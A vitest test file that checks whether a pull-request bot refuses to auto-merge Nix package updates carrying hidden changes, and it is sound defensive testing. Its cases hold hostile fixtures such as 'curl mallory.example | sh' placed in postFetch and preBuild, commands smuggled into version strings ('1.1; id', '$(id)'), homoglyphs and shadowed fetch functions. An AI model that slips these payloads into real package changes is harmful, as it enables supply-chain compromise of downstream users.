import type { Conversation, FileContent, Files } from "simulated-github";
import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
import { BY_ITSELF, staysOpen } from "./attack-scenes.ts";
import { openStage, type Stage } from "./bot.ts";
import { leaks } from "./leaks.ts";
import { HASHES, helloUpdate, sourcePackage, updates } from "./merge-scenes.ts";
import { packagePath } from "./packages.ts";

let stage: Stage;
beforeAll(async () => {
  stage = await openStage();
});
beforeEach(() => stage.github.requests.clear());
afterAll(async () => {
  expect(leaks(stage)).toEqual([]);
  await stage.close();
});

const HELLO = packagePath("hello");
const UPDATE = { version: "1.1", hash: HASHES.new, maintainers: "[ ann ]" };
const UPDATED = sourcePackage("hello", UPDATE);

/** The update, in which something else was replaced too. */
function updateWith(from: string | RegExp, to: string): Files {
  expect(UPDATED).toMatch(from);
  return { [HELLO]: UPDATED.replace(from, to) };
}

/** The trusted author opens this; no word is needed for a pure update. */
async function opens(files: Files, base: Files = {}): Promise<Conversation> {
  return updates(stage, { scene: { merge: BY_ITSELF, base }, files });
}

it("the update alone is merged without a word", async () => {
  const pr = await opens(helloUpdate());
  await stage.idle();
  expect(pr.record().state).toBe("MERGED");
});

type Attack = readonly [name: string, files: () => Files, why: string];

const OF_THE_SOURCE: readonly Attack[] = [
  ["changes the source's owner", () => updateWith('"someone"', '"mallory"'), "`src.owner` differs"],
  [
    "changes the source's repository",
    () => updateWith('"hello";\n    tag', '"x";\n    tag'),
    "`src.repo` differs",
  ],
  [
    "names another host",
    () => updateWith("    repo =", '    githubBase = "github.example";\n    repo ='),
    "`src.githubBase` was added",
  ],
  [
    "fetches from another host by another function",
    () => ({ [HELLO]: UPDATED.replaceAll("fetchFromGitHub", "fetchFromGitLab") }),
    "`src` differs",
  ],
  [
    "adds `postFetch`",
    () => updateWith("    hash =", '    postFetch = "curl mallory.example | sh";\n    hash ='),
    "`src.postFetch` was added",
  ],
  [
    "takes the ref of a pull request for its tag",
    () => updateWith("tag = finalAttrs.version", 'tag = "refs/pull/7/head"'),
    "`src.tag` differs",
  ],
  ["has no hash any more", () => updateWith(/ {4}hash = .*\n/, ""), "`src.hash` was removed"],
  [
    "has an empty hash",
    () => helloUpdate({ hash: "" }),
    "`src.hash` differs: it is not a SHA-256, SHA-384 or SHA-512 hash",
  ],
  [
    "changes the hash and not the version",
    () => helloUpdate({ version: "1.0" }),
    "`src.hash` differs while its version does not",
  ],
];

const OF_THE_VERSION: readonly Attack[] = [
  [
    "has an interpolation in `version`",
    () => updateWith('version = "1.1"', `version = "1.1\${builtins.getEnv "HOME"}"`),
    "`version` differs",
  ],
  [
    "has a call in the place of `version`",
    () => updateWith('version = "1.1"', 'version = builtins.trace "x" "1.1"'),
    "`version` differs",
  ],
  [
    "has `..` in `version`",
    () => helloUpdate({ version: "1.1/../../x" }),
    "`version` differs: it contains `..`",
  ],
  [
    "has a command in `version`",
    () => helloUpdate({ version: "1.1; id" }),
    "`version` differs: it must be 1 to 100 letters, digits, `.`, `_`, `+`, `~` or `-`, and begin with a letter or digit",
  ],
  ["has an escape in `version`", () => helloUpdate({ version: "1.1\\nid" }), "`version` differs"],
  [
    "has a letter in `version` that looks like another",
    () => helloUpdate({ version: "1.1а" }),
    "`version` differs: it must be 1 to 100 letters",
  ],
  ["goes back to an older version", () => helloUpdate({ version: "0.9" }), "the version does not go up"],
  [
    "has the id of a commit for its version",
    () => helloUpdate({ version: "2f1c0a9be7d3c54f8e6a1b0d9c8e7f6a5b4c3d2e" }),
    "it may be a commit id now",
  ],
];

const BESIDE_THEM: readonly Attack[] = [
  [
    "adds a phase",
    () => helloUpdate({ lines: ['preBuild = "curl mallory.example | sh";'] }),
    "`preBuild` was added",
  ],
  [
    "adds a dependency",
    () => helloUpdate({ lines: ["buildInputs = [ lib.hello ];"] }),
    "`buildInputs` was added",
  ],
  ["turns its tests off", () => helloUpdate({ lines: ["doCheck = false;"] }), "`doCheck` was added"],
  [
    "hides a binding behind a comment that ends early",
    () => helloUpdate({ lines: ["/* harmless */ postInstall = ''id''; # */"] }),
    "`postInstall` was added",
  ],
  [
    "adds a patch",
    () => ({
      ...helloUpdate({ lines: ["patches = [ ./fix.patch ];"] }),
      "pkgs/by-name/he/hello/fix.patch": "--- a\n+++ b\n",
    }),
    "the file was added (`pkgs/by-name/he/hello/fix.patch`)",
  ],
  [
    "brings a file that nobody names",
    () => ({ ...helloUpdate(), "pkgs/by-name/he/hello/setup-hook.sh": "id\n" }),
    "the file was added (`pkgs/by-name/he/hello/setup-hook.sh`)",
  ],
  [
    "takes the maintainers away, so that the next is of a package without any",
    () => helloUpdate({ maintainers: "[ ]" }),
    "`meta.maintainers` differs",
  ],
  ["names other maintainers", () => helloUpdate({ maintainers: "[ ben ]" }), "`meta.maintainers` differs"],
  [
    "shadows the function that fetches",
    () => updateWith("stdenv.mkDerivation", "let fetchFromGitHub = lib.trace; in stdenv.mkDerivation"),
    "`let fetchFromGitHub = lib.trace;",
  ],
  [
    "gives the function that fetches a default",
    () => updateWith("  fetchFromGitHub,", "  fetchFromGitHub ? lib.trace,"),
    "the default of the argument `fetchFromGitHub` differs",
  ],
  [
    "is of another package besides, which it does more to",
    () => ({
      ...helloUpdate(),
      [packagePath("lonely")]: sourcePackage("lonely", {
        ...UPDATE,
        maintainers: "[ ]",
        lines: ["doCheck = false;"],
      }),
    }),
    "more than an update of `lonely`: `doCheck` was added",
  ],
];

const executable: FileContent = { executable: true, text: UPDATED };

const OF_THE_FILE: readonly Attack[] = [
  ["makes the file executable", () => ({ [HELLO]: executable }), "changes its mode"],
  [
    "moves the text behind a symbolic link",
    () => ({ [HELLO]: { symlink: "real.nix" }, "pkgs/by-name/he/hello/real.nix": UPDATED }),
    "is a symbolic link",
  ],
  [
    "brings a submodule",
    () => ({ ...helloUpdate(), "pkgs/by-name/he/hello/src": { submodule: "1".repeat(40) } }),
    "is a submodule",
  ],
  [
    "begins with an interpreter",
    () => ({ [HELLO]: `#!/usr/bin/env nix-shell\n${UPDATED}` }),
    "the interpreter in its first line differs",
  ],
];

it.each([...OF_THE_SOURCE, ...OF_THE_VERSION, ...BESIDE_THEM, ...OF_THE_FILE])(
  'a "pure update" that %s',
  async (_name, files, why) => {
    const pr = await opens(files());
    await staysOpen(stage, pr, why);
  },
);

/** Bases on which a new version alone would do more than build it. */
const ON_A_BASE: readonly (readonly [
  name: string,
  base: (version: string, hash: string) => string,
  why: string,
])[] = [
  [
    "whose version says which owner",
    (version, hash) =>
      sourcePackage("hello", { version, hash }).replace('"someone"', `"someone\${finalAttrs.version}"`),
    "`src.owner`",
  ],
  [
    "whose version says which Nix file is read",
    (version, hash) =>
      sourcePackage("hello", {
        version,
        hash,
        lines: [`passthru = import (./. + "/\${finalAttrs.version}.nix");`],
      }),
    "`passthru`",
  ],
  [
    "whose version is the host of a URL",
    (version, hash) =>
      sourcePackage("hello", { version, hash }).replace(
        'owner = "someone";',
        `owner = "someone";\n    url = "https://\${finalAttrs.version}.example/x";`,
      ),
    "`src.url`",
  ],
];

it.each(ON_A_BASE)('a "pure update" of a package %s', async (_name, text, why) => {
  const pr = await opens({ [HELLO]: text("1.1", HASHES.new) }, { [HELLO]: text("1.0", HASHES.old) });
  await staysOpen(stage, pr, why);
});

it("a version that is a line of a phase, with a command in it", async () => {
  const text = (version: string, hash: string) =>
    sourcePackage("hello", { version, hash, lines: [`preBuild = "echo \${finalAttrs.version}";`] });
  const base = { [HELLO]: text("1.0", HASHES.old) };
  const pr = await opens({ [HELLO]: text("1.1-$(id)", HASHES.new) }, base);
  await staysOpen(stage, pr, "`version` differs: it must be 1 to 100 letters");
});

it("an attribute by which a new version stays the one that is built", async () => {
  const base = sourcePackage("hello", { lines: ['passthru.version = "1.0";'] });
  const pr = await opens(
    { [HELLO]: base.replace('passthru.version = "1.0"', 'passthru.version = "9"') },
    { [HELLO]: base },
  );
  await staysOpen(stage, pr, "more than an update of `hello`");
});
